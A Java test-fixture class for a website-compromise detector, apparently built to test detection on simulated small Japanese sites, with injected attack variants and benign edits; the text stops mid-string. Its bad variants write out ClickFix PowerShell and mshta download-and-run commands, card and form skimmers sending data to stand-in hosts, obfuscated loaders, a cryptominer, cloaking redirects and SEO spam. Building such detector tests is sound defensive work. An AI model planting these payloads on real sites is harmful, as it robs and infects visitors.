package jp.mamori.checks.web.heldout;

import static jp.mamori.checks.web.heldout.HeldOutVariant.bad;
import static jp.mamori.checks.web.heldout.HeldOutVariant.good;
import static jp.mamori.checks.web.site.Corpus.b64;

import java.util.ArrayList;
import java.util.List;
import jp.mamori.checks.web.site.TestSite.Reply;
import jp.mamori.checks.web.site.TestSite.Request;

/**
 * The fifth blind batch {@code [fresh7]}, on four base sites no earlier batch uses: {@code aoba} (a tax accountant on
 * WordPress with SWELL and Contact Form 7), {@code takumi} (a builder's Dreamweaver-made static site in Shift_JIS with a
 * formmail.cgi), {@code chaen} (a tea farm's EC-CUBE 4 shop with a guest checkout) and {@code iyashi} (a bone-setter's
 * clinic on a Jimdo-like hosted builder, its scripts from the builder's CDNs). The forms are the common 2024-2026 ones
 * for small Japanese sites; the benign edits are what owners and their agencies do every month. Written and measured
 * once before any detector change for it.
 */
final class Fresh7 {
  static final String A = "aoba";
  static final String B = "takumi";
  static final String C = "chaen";
  static final String D = "iyashi";
  static final List<String> SITES = List.of(A, B, C, D);

  private Fresh7() {}

  static boolean windows(Request r) {
    return r.userAgent() != null && r.userAgent().contains("Windows") && !r.isBot();
  }

  static boolean searchVisitor(Request r) {
    return r.referer() != null && r.referer().matches("https?://[^/]*(google|yahoo|bing)\\..*");
  }

  /** A doorway page of the Japanese keyword hack: luxury knock-off words and links to its siblings on the site. */
  static String doorway(String origin, String prefix, int n) {
    String[] brands = {"ロレックス", "ルイヴィトン", "エルメス", "シャネル", "グッチ", "プラダ"};
    String[] items = {"デイトジャスト", "長財布", "バーキン", "マトラッセ", "ショルダーバッグ"};
    String b = brands[n % brands.length];
    String i = items[n % items.length];
    StringBuilder links = new StringBuilder();
    for (int k = 1; k <= 12; k++) {
      links.append("<li><a href=\"").append(origin).append(prefix).append(n * 5 + k).append("/\">")
          .append(brands[(n + k) % brands.length]).append(' ').append(items[k % items.length])
          .append(" 激安 N級品 代引き</a></li>");
    }
    return "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>" + b + " " + i + " スーパーコピー 激安 "
        + "通販 | 日本国内発送 " + n + "</title><meta name=\"description\" content=\"" + b + " " + i + " コピー 最高品質 "
        + "販売\"></head><body><h1>" + b + " " + i + " スーパーコピー 【N級品】</h1><p>" + b + "スーパーコピー 時計 "
        + "バッグ 財布 激安 販売専門店。" + i + " 偽物 送料無料 代引き 口コミ 最高品質。</p><ul>" + links
        + "</ul></body></html>";
  }

  static String hex(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append(String.format("\\x%02x", (int) c));
    }
    return sb.toString();
  }

  static List<HeldOutVariant> compromises() {
    List<HeldOutVariant> v = new ArrayList<>();

    // ---- <script src> from newly registered domains: head, footer, a same-site file, a plugin's inline config
    v.add(bad(A, "origin", "[fresh7] jquery-migrate from a new .shop domain in the head, ver query kept", e ->
        e.site.insertAfter("*", "id=\"jquery-core-js\"></script>", "\n<script type=\"text/javascript\" src=\"https://"
            + "wpcdn-static.shop/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1\" id=\"jquery-migrate-js\"></script>")));
    v.add(bad(A, "origin", "[fresh7] deferred counter script from a look-alike statcounter domain before </body>", e ->
        e.site.insertBefore("*", "</body>", "<script defer src=\"https://cdn.statcounter-jp.com/counter/counter.js?"
            + "sc_project=12987\"></script>\n")));
    v.add(bad(A, "origin", "[fresh7] theme's main.min.js gets a script-element loader for a .cfd domain appended", e ->
        e.site.append("/wp-content/themes/swell/build/js/main.min.js", "\n;(function(){var s=document.createElement("
            + "'script');s.type='text/javascript';s.async=true;s.src='https://jscdn-cache.cfd/lib/swell.js?t='+Date.now();"
            + "document.head.appendChild(s);})();\n")));
    v.add(bad(A, "origin", "[fresh7] fake reCAPTCHA add-on: inline config names a loader URL, the plugin file loads it", e -> {
      e.site.insertBefore("/contact/", "<script type=\"text/javascript\" src=\"{{origin}}/wp-content/plugins/contact-form-7/",
          "<script type=\"text/javascript\" id=\"wpcf7-recaptcha-js-extra\">\nvar wpcf7_recaptcha = {\"sitekey\":\""
              + "6LdQ9kAqAAAAAF3bT1r0mTnQ\",\"actions\":{\"homepage\":\"homepage\",\"contactform\":\"contactform\"},"
              + "\"loader\":\"https:\\/\\/recaptcha-gstatic.top\\/recaptcha\\/api.js\"};\n</script>\n");
      e.site.append("/wp-content/plugins/contact-form-7/includes/js/index.js", "\n(function(){if(window.wpcf7_recaptcha&&"
          + "wpcf7_recaptcha.loader){var r=document.createElement('script');r.src=wpcf7_recaptcha.loader+'?render='+"
          + "wpcf7_recaptcha.sitekey;document.body.appendChild(r);}})();\n");
    }));
    v.add(bad(B, "origin", "[fresh7] jquery.cookie from a new .work domain in the head (Shift_JIS page)", e ->
        e.site.insertBefore("*", "<script type=\"text/javascript\" src=\"js/common.js\">", "<script type=\"text/javascript\" "
            + "src=\"http://js.jquery-lib.work/jquery.cookie.js\"></script>\n")));
    v.add(bad(B, "origin", "[fresh7] common.js gets a document.write of a split <script> tag appended", e ->
        e.site.append("/js/common.js", "\ndocument.write('<scr'+'ipt type=\"text/javascript\" src=\"http://ads-counter.biz"
            + "/c.js?u='+escape(location.href)+'\"></scr'+'ipt>');\n")));
    v.add(bad(C, "origin", "[fresh7] EC-CUBE customize.js loads a 'plugin' script from a new domain", e ->
        e.site.append("/html/user_data/assets/js/customize.js", "\n$(function(){$.getScript('https://cdn-eccube-plugin.com/"
            + "js/analytics.min.js');});\n")));
    v.add(bad(D, "origin", "[fresh7] builder-CDN look-alike (assets-jimstatic.com) added in the head", e ->
        e.site.insertBefore("*", "<script async src=\"https://www.googletagmanager.com/gtag/js", "<script src=\"https://"
            + "assets-jimstatic.com/web.js.9a8b7c6d.js\"></script>\n")));
    v.add(bad(C, "lookalike", "[fresh7] Bootstrap JS swapped for a stackpath-bootstrapcdn.com look-alike", e ->
        e.site.replace("*", "https://stackpath.bootstrapcdn.com/bootstrap/3.4.1/js/bootstrap.min.js",
            "https://stackpath-bootstrapcdn.com/bootstrap/3.4.1/js/bootstrap.min.js")));
    v.add(bad(A, "shortener", "[fresh7] script loaded through an is.gd short link in the footer", e ->
        e.site.insertBefore("*", "</body>", "<script src=\"https://is.gd/k8Jx2q\"></script>\n")));
    v.add(bad(C, "origin", "[fresh7] fake Cloudflare check script from a .click look-alike on the checkout page", e ->
        e.site.insertBefore("/shopping/nonmember", "<script src=\"https://yubinbango", "<script src=\"https://cloudflare-"
            + "turnstile.click/challenge.js?site=hayamaen\"></script>\n")));

    // ---- fake CAPTCHA / ClickFix
    v.add(bad(A, "clickfix", "[fresh7] ClickFix overlay: 'ロボットではありません' copies a PowerShell command, Win+R steps", e ->
        e.site.insertAfter("*", "<body class=\"home wp-theme-swell wp-child-theme-swell_child\">", "\n<div id=\"cf-verify\" "
            + "style=\"position:fixed;inset:0;background:rgba(0,0,0,.85);z-index:99999\"><div style=\"max-width:420px;"
            + "margin:15% auto;background:#fff;padding:24px\"><p>ロボットではないことを確認してください</p><button id=\"cf-btn\">"
            + "私はロボットではありません</button><ol id=\"cf-steps\" style=\"display:none\"><li>Windows キー + R を押す</li>"
            + "<li>Ctrl + V を押す</li><li>Enter を押す</li></ol></div></div>\n<script>document.getElementById('cf-btn')."
            + "onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c \"iwr https://check-verify.xyz/v.ps1"
            + " -UseBasicParsing|iex\"');document.getElementById('cf-steps').style.display='block';};</script>\n")));
    v.add(bad(D, "clickfix", "[fresh7] ClickFix with mshta and a fake verification ID, command built by concatenation", e ->
        e.site.insertBefore("/", "</body>", "<div class=\"recaptcha-box\" style=\"position:fixed;top:0;left:0;width:100%;"
            + "height:100%;background:#f9f9f9;z-index:2147483647\"><div class=\"rc-inner\"><h2>Verify you are human</h2><p>"
            + "続行するには、次の手順で確認してください。</p><label><input type=\"checkbox\" id=\"rc-anchor\"> I'm not a robot"
            + "</label></div></div><script>document.getElementById('rc-anchor').addEventListener('change',function(){var c="
            + "'ms'+'hta'+' htt'+'ps://cdn-verify-human.icu/captcha.hta'+' # I am not a robot - reCAPTCHA Verification ID: '"
            + "+Math.floor(Math.random()*9000+1000);var t=document.createElement('textarea');t.value=c;document.body."
            + "appendChild(t);t.select();document.execCommand('copy');t.remove();alert('Windows + R を押し、Ctrl + V、Enter "
            + "で確認を完了してください');});</script>\n")));

    // ---- SocGholish-style / fake browser updates
    v.add(bad(B, "fake-update", "[fresh7] SocGholish-style loader, URL assembled from an array join, data-cfasync", e ->
        e.site.insertBefore("/", "</body>", "<script type=\"text/javascript\">;(function(){var u=['ht','tps:','//store.',"
            + "'ikebana-suzuki','.com','/track?r='].join('')+encodeURIComponent(document.referrer)+'&u='+encodeURIComponent"
            + "(location.href);var s=document.createElement('script');s.setAttribute('data-cfasync','false');s.async=1;s.src="
            + "u;var f=document.getElementsByTagName('script')[0];f.parentNode.insertBefore(s,f);})();</script>\n")));
    v.add(bad(A, "fake-update", "[fresh7] Windows visitors get a whole 'ブラウザが古くなっています' page with a .zip", e ->
        e.site.override = r -> r.path().equals("/") && windows(r) ? Reply.html("<!DOCTYPE html><html lang=\"ja\"><head>"
            + "<meta charset=\"UTF-8\"><title>Chrome の更新</title></head><body style=\"font-family:sans-serif;text-align:"
            + "center\"><img src=\"https://chrome-update-center.info/logo.png\" width=\"96\"><h1>お使いのブラウザは古くなって"
            + "います</h1><p>このページを正しく表示するには、Google Chrome を最新版に更新してください。</p><a id=\"dl\" href="
            + "\"https://chrome-update-center.info/download/ChromeSetup_131.zip\" style=\"background:#1a73e8;color:#fff;"
            + "padding:12px 32px\">今すぐ更新</a></body></html>") : null));
    v.add(bad(D, "fake-update", "[fresh7] 'Chrome の更新が必要です' overlay linking an Update.zip on Dropbox", e ->
        e.site.insertBefore("*", "<script src=\"https://assets.jimstatic.com/web.js", "<div id=\"upd\" style=\"position:"
            + "fixed;inset:0;z-index:999999;background:#fff\"><h1>Chrome の更新が必要です</h1><p>お使いのバージョンのブラウザ"
            + "では、このページを表示できません。最新版に更新してください。</p><a href=\"https://www.dropbox.com/scl/fi/"
            + "q8z1k2/Chrome-Update-131.zip?rlkey=h2k9&dl=1\">ブラウザを更新する</a></div>\n")));

    // ---- Magecart / form theft
    v.add(bad(C, "skimmer", "[fresh7] checkout skimmer: fields to JSON, base64, an Image beacon on a new domain", e ->
        e.site.insertBefore("/shopping/nonmember", "<script src=\"https://yubinbango", "<script>document.addEventListener("
            + "'submit',function(ev){var f=ev.target,d={};for(var i=0;i<f.elements.length;i++){var el=f.elements[i];if(el.name)"
            + "d[el.name]=el.value;}new Image().src='https://analytics-eccube.net/collect?d='+btoa(unescape("
            + "encodeURIComponent(JSON.stringify(d))));},true);</script>\n")));
    v.add(bad(C, "skimmer", "[fresh7] function.js appended: fetch no-cors POST of the order form to a jQuery look-alike", e ->
        e.site.append("/html/template/default/assets/js/function.js", "\n$(document).on('submit','form.h-adr',function(){"
            + "var p=$(this).serialize();fetch('https://jquery-stat.com/api/v2/collect',{method:'POST',mode:'no-cors',body:p});"
            + "});\n")));
    v.add(bad(C, "skimmer", "[fresh7] customize.js appended: every input's change sent with sendBeacon", e ->
        e.site.append("/html/user_data/assets/js/customize.js", "\nvar _q={};document.addEventListener('change',function(ev){"
            + "if(ev.target.name){_q[ev.target.name]=ev.target.value;navigator.sendBeacon('https://cdn-tagmanager.org/b',"
            + "JSON.stringify(_q));}});\n")));
    v.add(bad(A, "skimmer", "[fresh7] contact form read on submit and sent over a WebSocket", e ->
        e.site.insertBefore("/contact/", "<script type=\"text/javascript\" id=\"contact-form-7-js-extra\">", "<script>(function()"
            + "{var w;function o(){w=new WebSocket('wss://ws-metrics.live/s');}o();document.querySelector('.wpcf7-form')."
            + "addEventListener('submit',function(){var f=new FormData(this),x={};f.forEach(function(v,k){x[k]=v;});if(w.ready"
            + "State===1){w.send(JSON.stringify(x));}});})();</script>\n")));
    v.add(bad(C, "form", "[fresh7] fake card form added to the guest checkout, posting to an off-site 'gateway'", e ->
        e.site.insertBefore("/shopping/nonmember", "<div class=\"ec-RegisterRole__actions\">", "<div class=\"ec-borderedDefs\">"
            + "<h2>クレジットカード情報</h2><form id=\"card\" method=\"post\" action=\"https://secure-payment-jp.com/gateway/"
            + "charge.php\"><dl><dt>カード番号</dt><dd><input type=\"text\" name=\"cc_number\" autocomplete=\"cc-number\" "
            + "maxlength=\"19\"></dd></dl><dl><dt>有効期限</dt><dd><input type=\"text\" name=\"cc_exp\" placeholder=\"MM/YY\">"
            + "</dd></dl><dl><dt>セキュリティコード</dt><dd><input type=\"password\" name=\"cc_cvc\" maxlength=\"4\"></dd></dl>"
            + "</form></div>\n")));
    v.add(bad(A, "form", "[fresh7] Contact Form 7's action moved to another site", e -> e.site.replace("/contact/",
        "action=\"/contact/#wpcf7-f12-p20-o1\"", "action=\"https://form-relay.site/post.php\"")));
    v.add(bad(B, "form", "[fresh7] formmail.cgi action moved to a mail-form look-alike (Shift_JIS page)", e ->
        e.site.replace("/contact.html", "action=\"cgi-bin/formmail.cgi\"", "action=\"http://mailform-cgi.net/send.cgi\"")));
    v.add(bad(D, "form", "[fresh7] the builder's form handler replaced by a forms-jimdo.com look-alike", e ->
        e.site.replace("/contact/", "action=\"/app/module/webproduct/goto/m/form\"", "action=\"https://forms-jimdo.com/app/"
            + "module/webproduct/goto/m/form\"")));

    // ---- Japanese keyword hack
    v.add(bad(A, "seo-spam", "[fresh7] off-screen link farm of knock-off brands in the footer of every page", e ->
        e.site.insertBefore("*", "<div class=\"p-fixBtnWrap\">", "<div style=\"position:absolute;left:-9999px;top:-9999px\">"
            + "<a href=\"https://www.rolex-nkyu.shop/\">ロレックス スーパーコピー 激安</a> <a href=\"https://www.rolex-nkyu.shop/"
            + "daytona/\">デイトナ コピー N級品</a> <a href=\"https://vuitton-kopi.com/\">ルイヴィトン 財布 偽物 通販</a> <a href="
            + "\"https://vuitton-kopi.com/bag/\">ヴィトン バッグ コピー 代引き</a> <a href=\"https://hermes-sale.net/\">エルメス "
            + "バーキン スーパーコピー</a></div>\n")));
    v.add(bad(B, "seo-spam", "[fresh7] display:none online-casino links in the footer (Shift_JIS page)", e ->
        e.site.insertBefore("*", "<address>", "<div style=\"display:none\"><a href=\"https://onkaji-navi.com/\">オンカジ "
            + "おすすめ 2026</a> <a href=\"https://onkaji-navi.com/bonus/\">入金不要ボーナス 即出金</a> <a href=\"https://"
            + "slot-kachi.net/\">オンラインスロット 勝ち方</a> <a href=\"https://baccarat-jp.org/\">バカラ 必勝法</a></div>\n")));
    v.add(bad(C, "seo-spam", "[fresh7] doorway pages on the shop linked in small print from the home page", e -> {
      StringBuilder links = new StringBuilder("<div class=\"ec-role\" style=\"font-size:1px;line-height:1px\">");
      for (int n = 1; n <= 8; n++) {
        e.site.put("/user_data/kopi-" + n, doorway(e.site.origin, "/user_data/kopi-", n));
        links.append("<a href=\"/user_data/kopi-").append(n).append("\">ブランド コピー ").append(n).append("</a> ");
      }
      e.site.insertBefore("/", "<div class=\"ec-newsRole\">", links.append("</div>\n").toString());
    }));
    v.add(bad(A, "seo-spam", "[fresh7] wp-sitemap.xml grows by 600 knock-off pages served only to Googlebot", e -> {
      StringBuilder sm = new StringBuilder();
      for (int n = 1; n <= 600; n++) {
        sm.append("<url><loc>{{origin}}/brand/kopi-").append(n).append("/</loc><lastmod>2026-12-01</lastmod></url>\n");
      }
      e.site.replace("/wp-sitemap.xml", "</urlset>", sm + "</urlset>");
      String origin = e.site.origin;
      e.site.override = r -> r.path().startsWith("/brand/kopi-") && r.isBot()
          ? Reply.html(doorway(origin, "/brand/kopi-", Integer.parseInt(r.path().replaceAll("\\D", "")))) : null;
    }));
    v.add(bad(D, "cloaking", "[fresh7] Googlebot gets a knock-off shop in place of the clinic's home page", e -> {
      String origin = e.site.origin;
      e.site.override = r -> r.path().equals("/") && r.isBot() ? Reply.html(doorway(origin, "/shop/", 1)) : null;
    }));
    v.add(bad(B, "cloaking", "[fresh7] visitors from a search engine get a 302 to a brand outlet", e ->
        e.site.override = r -> searchVisitor(r) ? Reply.redirect(302, "https://jp-brand-outlet.shop/?src=tkm") : null));
    v.add(bad(A, "redirect", "[fresh7] inline JS sends search visitors away, the URL hex-escaped", e ->
        e.site.insertBefore("*", "</head>", "<script>if(/google|yahoo|bing/i.test(document.referrer)&&!/wordpress_logged_in/"
            + ".test(document.cookie)){window.location.href=\"" + hex("https://tokyo-kaitori.top/?ref=aoba") + "\";}</script>\n")));
    v.add(bad(C, "redirect", "[fresh7] .htaccess 301 for phones on the home page to an outlet shop", e ->
        e.site.override = r -> r.path().equals("/") && BlindCorpus.phone(r)
            ? Reply.redirect(301, "https://sale-outlet-jp.com/?id=hym") : null));
    v.add(bad(D, "redirect", "[fresh7] .htaccess 302 on every page for search visitors to a pill shop", e ->
        e.site.override = r -> searchVisitor(r) && !r.path().startsWith("/robots")
            ? Reply.redirect(302, "https://kenko-supple-jp.com/lp/?k=" + r.path().length()) : null));
    v.add(bad(B, "redirect", "[fresh7] meta refresh on the home page to another site after 3 seconds", e ->
        e.site.insertBefore("/", "<meta http-equiv=\"Content-Style-Type\"", "<meta http-equiv=\"refresh\" content=\"3;URL="
            + "http://takumi-reform.xyz/\" />\n")));
    v.add(bad(A, "redirect", "[fresh7] setTimeout location.replace(atob(...)) unless the visitor has been before", e ->
        e.site.insertBefore("*", "<script type=\"text/javascript\" id=\"swell_script-js-extra\">", "<script>if(!localStorage"
            + ".getItem('_vst')){localStorage.setItem('_vst','1');setTimeout(function(){window.location.replace(atob('"
            + b64("https://kaitori-navi.click/lp/aoba") + "'));},1500);}</script>\n")));

    // ---- obfuscated loaders
    v.add(bad(B, "obfuscation", "[fresh7] _0x-style obfuscated loader appended to common.js", e ->
        e.site.append("/js/common.js", "\nvar _0x3f2a=['\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74',"
            + "'\\x73\\x63\\x72\\x69\\x70\\x74','" + hex("https://cdn-jsstat.xyz/j.js") + "','\\x61\\x70\\x70\\x65\\x6e\\x64"
            + "\\x43\\x68\\x69\\x6c\\x64'];(function(_0x1b4c,_0x5e7d){var _0x2a11=document[_0x1b4c[0x0]](_0x1b4c[0x1]);"
            + "_0x2a11['\\x73\\x72\\x63']=_0x1b4c[0x2];document['\\x68\\x65\\x61\\x64'][_0x1b4c[0x3]](_0x2a11);})(_0x3f2a);\n")));
    v.add(bad(D, "obfuscation", "[fresh7] hex-escaped script URL in an inline loader at the end of the body", e ->
        e.site.insertBefore("*", "</body>", "<script>var _u=\"" + hex("https://js-counter.monster/c.js") + "\";var _s=document."
            + "createElement(\"script\");_s.src=_u;document.body.appendChild(_s);</script>\n")));
    v.add(bad(C, "obfuscation", "[fresh7] eval(atob(...)) loader in the footer", e ->
        e.site.insertBefore("*", "</body>", "<script>eval(atob('" + b64(BlindCorpus.loader(
            "https://static-eccube.top/js/lib.js")) + "'));</script>\n")));

    // ---- miners
    v.add(bad(A, "miner", "[fresh7] CoinIMP-style miner: a hosting script plus Client.Anonymous with a throttle", e ->
        e.site.insertBefore("*", "</body>", "<script src=\"https://www.hostingcloud.racing/Xk9r.js\"></script><script>var "
            + "_client = new Client.Anonymous('8f1c0b7e2d3a4f5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f9', {throttle: 0.3, c: "
            + "'w'});_client.start();</script>\n")));
    v.add(bad(D, "miner", "[fresh7] WebAssembly miner: a worker per core and a pool login over a WebSocket", e ->
        e.site.insertBefore("/", "</body>", "<script>(function(){var code='self.onmessage=function(m){var ws=new WebSocket("
            + "\"wss://pool.minexmr-jp.org:443\");ws.onopen=function(){ws.send(JSON.stringify({method:\"login\",params:{login:"
            + "\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",pass:\"x\"}"
            + "}))};WebAssembly.instantiateStreaming(fetch(\"https://pool.minexmr-jp.org/cn.wasm\")).then(function(r){self."
            + "hash=r.instance.exports.cryptonight_hash})};';for(var i=0;i<navigator.hardwareConcurrency;i++){var w=new Worker"
            + "(URL.createObjectURL(new Blob([code])));w.postMessage(i);}})();</script>\n")));

    // ---- hidden iframes
    v.add(bad(B, "iframe", "[fresh7] 1x1 hidden iframe to a TDS before </body> on every page", e ->
        e.site.insertBefore("*", "</body>", "<iframe src=\"http://tds-kurumi.xyz/in.cgi?3\" width=\"1\" height=\"1\" "
            + "frameborder=\"0\" style=\"visibility:hidden\"></iframe>\n")));
    v.add(bad(C, "iframe", "[fresh7] iframe positioned off-screen on the product pages", e ->
        e.site.insertBefore("/products/detail/3", "<div class=\"ec-productRole\">", "<iframe src=\"https://ad-tracker-jp.net/"
            + "f.html\" style=\"position:absolute;top:-1000px;left:-1000px;width:10px;height:10px\"></iframe>\n")));

    // ---- defacements
    v.add(bad(A, "defacement", "[fresh7] home page replaced by a Japanese 'ハッキングされました' page", e ->
        e.site.override = r -> r.path().equals("/") ? Reply.html("<!DOCTYPE html><html lang=\"ja\"><head><meta charset="
            + "\"UTF-8\"><title>このサイトはハッキングされました</title></head><body style=\"background:#000;color:#f00;"
            + "text-align:center\"><h1>このサイトはハッキングされました</h1><p>セキュリティを見直してください。</p><p>by "
            + "Anonymous JP / 2026</p></body></html>") : null));
    v.add(bad(B, "defacement", "[fresh7] index.html replaced by an English 'Hacked By' page", e -> e.site.put("/",
        "<html><head><title>Hacked By SA3D HaCk3D</title></head><body bgcolor=\"black\"><center><font color=\"red\" size="
            + "\"7\">Hacked By SA3D HaCk3D</font><br><font color=\"white\">Your Security Is Zero. We Are Everywhere.<br>"
            + "Greetz: Team Dz-Xploit</font><br><embed src=\"https://www.youtube.com/embed/dQw4w9WgXcQ?autoplay=1\" "
            + "width=\"1\" height=\"1\"></center></body></html>")));
    v.add(bad(D, "defacement", "[fresh7] home page text switched to Indonesian slot spam, the layout kept", e ->
        e.site.putLike("/", "/", "<div id=\"content_area\" data-container=\"content\">", "</div>\n</div></div>\n<footer",
            "\n<div id=\"cc-matrix-4400001\"><div class=\"j-module n j-header \"><h1>SLOT GACOR HARI INI - Situs Judi Slot "
            + "Online Terpercaya</h1></div><div class=\"j-module n j-text \"><p>Daftar situs slot gacor maxwin hari ini, "
            + "deposit pulsa tanpa potongan, bonus new member 100%. Link alternatif <a href=\"https://slotgacor-maxwin88.com/\">"
            + "SLOT88</a> dan <a href=\"https://rtp-live-gacor.net/\">RTP live</a> terbaru.</p><p>Main judi online dengan "
            + "winrate tertinggi, pola gacor, scatter hitam, daftar akun pro dan slot demo gratis setiap hari.</p></div>"
            + "</div>\n")));
    v.add(bad(C, "defacement", "[fresh7] shop's home page replaced by a Chinese gambling page", e ->
        e.site.override = r -> r.path().equals("/") ? Reply.html("<!DOCTYPE html><html lang=\"zh-CN\"><head><meta charset="
            + "\"UTF-8\"><title>澳门新葡京娱乐场 - 官方网站</title></head><body><h1>澳门新葡京 在线娱乐</h1><p>注册即送 888 元，"
            + "百家乐、老虎机、体育投注，24小时在线客服。</p><a href=\"https://xpj-888.vip/\">立即注册</a></body></html>")
            : null));
    return v;
  }

  static List<HeldOutVariant> benign() {
    List<HeldOutVariant> v = new ArrayList<>();

    // ---- aoba (WordPress/SWELL)
    v.add(good(A, "plugin", "[fresh7] Easy Table of Contents plugin: its own CSS and JS files under /wp-content/plugins/", e -> {
      e.site.put("/wp-content/plugins/easy-table-of-contents/assets/css/screen.min.css", ".ez-toc-container{border:1px "
          + "solid #ddd;padding:10px}.ez-toc-title{font-weight:700}");
      e.site.put("/wp-content/plugins/easy-table-of-contents/assets/js/front.min.js", "jQuery(function(t){t('.ez-toc-toggle')"
          + ".on('click',function(){t('.ez-toc-list').toggle()})});");
      e.site.insertBefore("*", "<link rel=\"preconnect\" href=\"https://fonts.googleapis.com\">", "<link rel='stylesheet' "
          + "id='ez-toc-css' href='{{origin}}/wp-content/plugins/easy-table-of-contents/assets/css/screen.min.css?ver=2.0.69'"
          + " type='text/css' media='all' />\n");
      e.site.insertBefore("*", "</body>", "<script type=\"text/javascript\" src=\"{{origin}}/wp-content/plugins/easy-table-"
          + "of-contents/assets/js/front.min.js?ver=2.0.69\" id=\"ez-toc-js-js\"></script>\n");
    }));
    v.add(good(A, "theme-update", "[fresh7] SWELL update: new version strings and renamed header classes", e ->
        e.site.replace("*", "ver=2.12.0", "ver=2.13.1").replace("*", "l-header__inner l-container", "l-header__body "
            + "l-container -wide").replace("*", "c-gnav\"", "c-gnav -horizontal\"")));
    v.add(good(A, "content", "[fresh7] new news post, linked from the home page and the list", e -> {
      e.site.putLike("/news/nenmatsu-2026/", "/news/invoice-2026/", "<article class=\"l-mainContent__inner\">", "</article>",
          "<h1 class=\"c-postTitle__ttl\">年末調整の書類はお早めに</h1><div class=\"post_content\"><p>今年も年末調整の時期に"
              + "なりました。扶養控除等申告書、保険料控除申告書は12月10日までにご提出ください。定額減税の精算もあります。"
              + "</p></div>");
      e.site.insertAfter("/", "<ul class=\"p-postList -type-simple\">", "\n<li class=\"p-postList__item\"><a href=\"{{origin}}"
          + "/news/nenmatsu-2026/\" class=\"p-postList__link\"><time class=\"c-postTimes__posted\">2026.12.01</time><span "
          + "class=\"p-postList__title\">年末調整の書類はお早めに</span></a></li>");
    }));
    v.add(good(A, "embed", "[fresh7] YouTube explainer video embedded on the services page", e ->
        e.site.insertBefore("/service/", "<p><a href=\"{{origin}}/price/\">", "<figure class=\"wp-block-embed is-type-video "
            + "is-provider-youtube\"><div class=\"wp-block-embed__wrapper\"><iframe title=\"電子帳簿保存法のポイント\" width="
            + "\"500\" height=\"281\" src=\"https://www.youtube.com/embed/Xc9a7bQ2LmE?feature=oembed\" frameborder=\"0\" allow="
            + "\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share\" "
            + "referrerpolicy=\"strict-origin-when-cross-origin\" allowfullscreen></iframe></div></figure>\n")));
    v.add(good(A, "captcha", "[fresh7] reCAPTCHA v3 for Contact Form 7 on the contact page", e ->
        e.site.insertBefore("/contact/", "<script type=\"text/javascript\" src=\"{{origin}}/wp-content/plugins/contact-form-7/",
            "<script type=\"text/javascript\" src=\"https://www.google.com/recaptcha/api.js?render=6LdQ9kAqAAAAAF3bT1r0mTnQ"
                + "&amp;ver=3.0\" id=\"google-recaptcha-js\"></script>\n<script type=\"text/javascript\" id=\"wpcf7-recaptcha-"
                + "js-extra\">\nvar wpcf7_recaptcha = {\"sitekey\":\"6LdQ9kAqAAAAAF3bT1r0mTnQ\",\"actions\":{\"homepage\":"
                + "\"homepage\",\"contactform\":\"contactform\"}};\n</script>\n")));
    v.add(good(A, "cookie-banner", "[fresh7] Cookie Notice plugin: a fixed banner and its same-site files", e -> {
      e.site.put("/wp-content/plugins/cookie-notice/js/front.min.js", "(function(){var n=document.getElementById('cookie-"
          + "notice');if(!n)return;if(document.cookie.indexOf('cookie_notice_accepted=')<0){n.style.display='block'}document."
          + "getElementById('cn-accept-cookie').onclick=function(){document.cookie='cookie_notice_accepted=true;path=/;max-age="
          + "31536000';n.style.display='none'}})();");
      e.site.insertBefore("*", "</body>", "<div id=\"cookie-notice\" role=\"dialog\" class=\"cookie-notice-hidden cookie-"
          + "revoke-hidden cn-position-bottom\" aria-label=\"Cookie Notice\" style=\"display:none;position:fixed;bottom:0;"
          + "width:100%;background:#32323a;color:#fff\"><div class=\"cookie-notice-container\"><span id=\"cn-notice-text\">"
          + "当サイトではアクセス解析のために Cookie を使用しています。</span><a href=\"#\" id=\"cn-accept-cookie\" class=\"cn-"
          + "set-cookie cn-button\">同意する</a></div></div>\n<script type=\"text/javascript\" src=\"{{origin}}/wp-content/"
          + "plugins/cookie-notice/js/front.min.js?ver=2.5.4\" id=\"cookie-notice-front-js\"></script>\n");
    }));
    v.add(good(A, "fonts", "[fresh7] Google Fonts family switched to Zen Maru Gothic with a second weight", e ->
        e.site.replace("*", "family=Noto+Sans+JP:wght@400;700", "family=Zen+Maru+Gothic:wght@400;500;700&family=Noto+Sans+JP"
            + ":wght@400;700")));
    v.add(good(A, "tag", "[fresh7] Google Tag Manager container added by the web agency next to gtag", e -> {
      e.site.insertBefore("*", "<link rel=\"https://api.w.org/\"", "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i)"
          + "{w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],"
          + "j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id="
          + "'+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-K7AOB2T');</script>\n<!-- End "
          + "Google Tag Manager -->\n");
    }));

    // ---- takumi (static Shift_JIS)
    v.add(good(B, "tag", "[fresh7] GA4 gtag added to every page of the old static site", e ->
        e.site.insertBefore("*", "</head>", "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-TKM4Q8Z2LC\">"
            + "</script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n"
            + "  gtag('js', new Date());\n  gtag('config', 'G-TKM4Q8Z2LC');\n</script>\n")));
    v.add(good(B, "content", "[fresh7] two new works added to the gallery, one with a new page", e -> {
      e.site.insertAfter("/works.html", "<h2>施工事例</h2>", "\n<div class=\"works\"><img src=\"images/works04.jpg\" alt="
          + "\"松本市 平屋\" width=\"280\" height=\"200\" /><h3><a href=\"works04.html\">松本市 N様邸（平屋・28坪）</a></h3><p>"
